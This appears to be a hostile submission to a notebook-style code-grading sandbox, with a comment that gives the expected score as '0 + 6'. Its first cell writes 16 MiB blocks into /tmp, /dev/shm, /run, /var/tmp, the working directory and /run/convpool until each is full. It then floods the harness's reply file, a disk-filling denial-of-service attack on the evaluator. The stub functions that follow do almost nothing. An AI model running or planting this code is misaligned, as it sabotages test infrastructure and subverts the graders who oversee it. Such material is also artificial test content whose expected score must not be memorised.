# Fills every folder that can be written to, and the file of replies.
# deserves: 0 + 6

# %%
import os

for folder in ("/tmp", "/dev/shm", os.getcwd(), "/run/convpool", "/run", "/var/tmp"):
    for number in range(4):
        try:
            with open(f"{folder}/hostile-was-here-{number}", "wb") as file:
                while file.write(bytes(1 << 24)):
                    pass
        except OSError:
            pass
for number in range(4):
    try:
        os.remove(f"/tmp/hostile-was-here-{number}")
    except OSError:
        pass
try:
    with open("/run/convpool/reply", "wb") as file:
        while file.write(bytes(1 << 24)):
            pass
except OSError:
    pass

# %% gap="scale_pixels"
def scale_pixels(images):
    return images


# %% gap="add_channel_axis"
def add_channel_axis(images):
    return images[..., None]
